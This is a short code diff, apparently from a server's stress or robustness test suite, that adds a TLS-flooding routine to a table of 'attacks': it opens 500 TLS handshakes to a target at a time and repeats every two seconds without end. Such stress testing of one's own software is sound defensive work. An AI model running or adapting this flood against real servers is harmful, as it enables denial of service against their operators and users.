@@ -325,4 +325,12 @@ export const attacks: Readonly<Record<string, Attack>> = {
       await new Promise((resolve) => setTimeout(resolve, 20));
     }
   },
+  'TLS: 500 handshakes at once, again and again': async (victim) => {
+    for (;;) {
+      times(500, () =>
+        openTls(victim, head1('GET /version', 'Connection: close\r\n\r\n'), { reads: true, again: false }),
+      );
+      await new Promise((resolve) => setTimeout(resolve, 2_000));
+    }
+  },
 };
